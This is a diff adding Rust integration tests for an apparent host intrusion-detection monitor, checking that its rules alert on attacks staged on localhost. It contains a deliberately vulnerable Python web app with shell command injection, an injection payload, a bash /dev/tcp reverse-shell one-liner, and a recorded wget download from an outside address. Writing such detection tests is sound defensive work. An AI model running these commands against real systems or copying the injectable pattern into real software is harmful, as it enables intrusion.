@@ -1,0 +1,299 @@
+//! Detection end to end: real attacks on this machine raise the built-in
+//! pack's alerts; rules reload on SIGHUP; `rules check` and `replay` work
+//! offline.
+
+use std::{
+    io::Write as _,
+    process::{Child, Command, Stdio},
+    time::Duration,
+};
+
+use serde_json::Value;
+use tests::{
+    free_port, is_root, monitor_bin, unique, wait_listening, EventExt as _, Monitor, TempPath,
+};
+
+const QUIET: &str = "[output]\nseed_events = false\n[network]\nseed_events = false\n";
+
+struct Killed(Child);
+
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A web application with a command-injection flaw: `?host=` goes into a
+/// shell command line, as on many appliance admin pages.
+const VULNERABLE_APP: &str = r#"
+import http.server, subprocess, sys, urllib.parse
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query).get("host", ["127.0.0.1"])[0]
+        out = subprocess.run("echo ping " + q, shell=True, capture_output=True).stdout
+        self.send_response(200); self.end_headers(); self.wfile.write(out)
+    def log_message(self, *a): pass
+http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
+"#;
+
+fn alert<'a>(alerts: &'a [Value], rule: &str) -> Option<&'a Value> {
+    alerts.iter().find(|a| a["rule"] == rule)
+}
+
+#[test]
+fn command_injection_through_a_web_app_alerts() {
+    if !is_root("command_injection_through_a_web_app_alerts") {
+        return;
+    }
+    let m = Monitor::start_with(QUIET);
+    let port = free_port();
+    let app = Killed(
+        Command::new("/usr/bin/python3")
+            .args(["-c", VULNERABLE_APP, &port.to_string()])
+            .spawn()
+            .expect("web app"),
+    );
+    wait_listening(&format!("127.0.0.1:{port}"));
+    // The injected commands: discovery, then a connection out.
+    let sink = std::net::TcpListener::bind("127.0.0.1:0").expect("sink");
+    let sink_port = sink.local_addr().expect("addr").port();
+    let payload = format!(
+        "x;id;/usr/bin/python3 -c 'import socket;socket.create_connection((\"127.0.0.1\",{sink_port}))'"
+    );
+    let url = format!(
+        "http://127.0.0.1:{port}/?host={}",
+        payload
+            .replace(' ', "%20")
+            .replace(';', "%3B")
+            .replace('"', "%22")
+            .replace('\'', "%27")
+    );
+    let out = Command::new("curl")
+        .args(["-s", &url])
+        .output()
+        .expect("curl");
+    assert!(out.status.success());
+    let app_pid = u64::from(app.0.id());
+    // Other tests share the machine: only alerts below this app count.
+    let below_app = |v: &Value| {
+        v["process"]["ancestry"]
+            .as_array()
+            .is_some_and(|a| a.iter().any(|x| x["pid"] == app_pid))
+    };
+    let mine = |v: &Value, rule: &str| v.kind() == "alert" && v["rule"] == rule && below_app(v);
+    let shell = m.expect_event("EW-PROC-001", |v| mine(v, "EW-PROC-001"));
+    assert_eq!(shell["severity"], "high");
+    assert!(shell["attack"]
+        .as_array()
+        .is_some_and(|a| a.iter().any(|t| t == "T1190")));
+    assert_eq!(
+        shell["process"]["exe"],
+        std::fs::canonicalize("/bin/sh")
+            .expect("sh")
+            .to_str()
+            .expect("utf8")
+    );
+    assert_eq!(shell["process"]["ancestry"][0]["pid"], app_pid);
+    assert_eq!(shell["evidence"][0]["kind"], "exec");
+    m.expect_event("EW-DISC-001", |v| mine(v, "EW-DISC-001"));
+    let seq = m.expect_event("EW-SEQ-001", |v| mine(v, "EW-SEQ-001"));
+    assert_eq!(seq["severity"], "critical");
+    assert_eq!(seq["connections"][0]["remote"]["port"], sink_port);
+    assert_eq!(seq["evidence"].as_array().map(Vec::len), Some(2));
+    drop(sink);
+    // The same app serving a normal request raises nothing more.
+    let before = m.events(|v| v.kind() == "alert" && below_app(v)).len();
+    let out = Command::new("curl")
+        .args(["-s", &format!("http://127.0.0.1:{port}/?host=127.0.0.1")])
+        .output()
+        .expect("curl");
+    assert!(out.status.success());
+    std::thread::sleep(Duration::from_millis(500));
+    let alerts = m.events(|v| v.kind() == "alert" && below_app(v));
+    // A benign request still runs the app's own shell: only the lineage's
+    // existing alerts may repeat, no new rule fires.
+    let rules: std::collections::HashSet<String> = alerts[before..]
+        .iter()
+        .map(|a| a["rule"].as_str().unwrap_or("").to_owned())
+        .collect();
+    assert!(
+        rules.iter().all(|r| r == "EW-PROC-001"),
+        "new rules fired on a benign request: {rules:?}"
+    );
+}
+
+#[test]
+fn reverse_shell_alerts() {
+    if !is_root("reverse_shell_alerts") {
+        return;
+    }
+    let m = Monitor::start_with(QUIET);
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    // The classic: a shell whose stdin and stdout are the connection.
+    let shell = Killed(
+        Command::new("/bin/bash")
+            .args([
+                "-c",
+                &format!("exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; exec /bin/sh -i 2>&1"),
+            ])
+            .spawn()
+            .expect("reverse shell"),
+    );
+    let (mut conn, _) = listener.accept().expect("accept");
+    conn.write_all(b"exit\n").expect("send");
+    let alert = m.expect_event("EW-PROC-002", |v| {
+        v.kind() == "alert" && v["rule"] == "EW-PROC-002"
+    });
+    assert_eq!(alert["severity"], "critical");
+    assert_eq!(alert["evidence"][0]["stdio"][0], "socket");
+    assert_eq!(alert["process"]["pid"], u64::from(shell.0.id()));
+}
+
+#[test]
+fn rules_reload_on_sighup_and_bad_rules_keep_the_old_ones() {
+    if !is_root("rules_reload_on_sighup_and_bad_rules_keep_the_old_ones") {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!(
+        "edgewatch-rules-{}-{}",
+        std::process::id(),
+        unique()
+    ));
+    std::fs::create_dir_all(&dir).expect("rule dir");
+    let marker = format!("edgewatch-marker-{}", unique());
+    let m = Monitor::start_with(&format!(
+        "{QUIET}[detect]\nbuiltin_rules = false\nrule_paths = [\"{}\"]\n",
+        dir.display()
+    ));
+    let run_marker = || {
+        let mut c = Command::new("/bin/echo")
+            .arg(&marker)
+            .stdout(Stdio::null())
+            .spawn()
+            .expect("echo");
+        c.wait().expect("wait");
+        u64::from(c.id())
+    };
+    let first = run_marker();
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(m
+        .events(|v| v.kind() == "alert" && v["process"]["pid"] == first)
+        .is_empty());
+    std::fs::write(
+        dir.join("local.toml"),
+        format!(
+            "[[rule]]\nid = \"LOCAL-1\"\ntitle = \"marker\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\ndedup_secs = 0\nmatch = [{{ field = \"argv\", equals = \"{marker}\" }}]\n"
+        ),
+    )
+    .expect("write rule");
+    // SAFETY: signalling the monitor child.
+    unsafe { libc::kill(m.pid() as i32, libc::SIGHUP) };
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while !m.stderr().iter().any(|l| l.contains("reloaded")) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no reload: {:?}",
+            m.stderr()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let second = run_marker();
+    m.expect_event("alert from the new rule", |v| {
+        v.kind() == "alert" && v["rule"] == "LOCAL-1" && v["process"]["pid"] == second
+    });
+    // A broken file: the reload fails in one line and the rule stays.
+    std::fs::write(
+        dir.join("broken.toml"),
+        "[[rule]]\nid = \"B\"\nseverity = \"nope\"\n",
+    )
+    .expect("write");
+    unsafe { libc::kill(m.pid() as i32, libc::SIGHUP) };
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    let line = loop {
+        if let Some(l) = m.stderr().into_iter().find(|l| l.contains("reload failed")) {
+            break l;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no failure line: {:?}",
+            m.stderr()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    assert!(line.contains("broken.toml:"), "{line}");
+    let third = run_marker();
+    m.expect_event("old rule still running", |v| {
+        v.kind() == "alert" && v["rule"] == "LOCAL-1" && v["process"]["pid"] == third
+    });
+    assert_eq!(
+        m.metric("edgewatch_rule_reloads_total{result=\"failed\"}"),
+        Some(1.0)
+    );
+    let _ = std::fs::remove_dir_all(dir);
+}
+
+#[test]
+fn rules_check_reports_file_line_and_column() {
+    let good = TempPath::write("good.toml", "[[rule]]\nid = \"G-1\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nkinds = [\"exec\"]\n");
+    let out = Command::new(monitor_bin())
+        .args(["rules", "check"])
+        .arg(good.path())
+        .output()
+        .expect("run");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(String::from_utf8_lossy(&out.stdout).contains("1 rules ok"));
+    let bad = TempPath::write(
+        "bad.toml",
+        "[[rule]]\nid = \"B-1\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1059\"]\nmatch = [{ field = \"exe\", regex = \"[\" }]\n",
+    );
+    let out = Command::new(monitor_bin())
+        .args(["rules", "check"])
+        .arg(bad.path())
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(
+        stderr.contains(&format!("{}:6:35: bad regex", bad.path().display())),
+        "{stderr}"
+    );
+    let out = Command::new(monitor_bin())
+        .args(["rules", "show"])
+        .output()
+        .expect("run");
+    assert!(String::from_utf8_lossy(&out.stdout).contains("EW-PROC-001"));
+}
+
+#[test]
+fn replay_runs_recorded_events_through_the_rules() {
+    let listen = r#"{"kind":"listen","ts":"2026-01-01T00:00:00Z","proto":"tcp","netns":1,"socket":1,"local":{"addr":"0.0.0.0","port":80},"process":{"pid":100,"comm":"lighttpd","exe":"/usr/sbin/lighttpd","argv":["lighttpd"],"ancestry":[{"pid":1,"exe":"/sbin/init"}]}}"#;
+    let shell = r#"{"kind":"exec","ts":"2026-01-01T00:00:05Z","pid":200,"tid":200,"ppid":100,"uid":33,"euid":33,"gid":33,"egid":33,"comm":"sh","cgroup_id":1,"exe":"/bin/busybox","exe_deleted":false,"exe_truncated":false,"argv":["sh","-c","wget http://198.51.100.9/x -O /tmp/x"],"argv_truncated":false,"cwd":"/www","cwd_truncated":false,"stdio":["pipe","pipe","pipe"],"ancestry":[{"pid":100,"exe":"/usr/sbin/lighttpd"},{"pid":1,"exe":"/sbin/init"}]}"#;
+    let file = TempPath::write("events.jsonl", &format!("{listen}\nnot json\n{shell}\n"));
+    let out = Command::new(monitor_bin())
+        .arg("replay")
+        .arg(file.path())
+        .output()
+        .expect("run");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let alerts: Vec<Value> = String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("alert JSON"))
+        .collect();
+    let a = alert(&alerts, "EW-PROC-001").expect("web shell alert");
+    assert_eq!(a["kind"], "alert");
+    assert_eq!(a["process"]["pid"], 200);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains(":2: not a JSON event"), "{stderr}");
+    assert!(stderr.contains("replayed 2 events"), "{stderr}");
+}
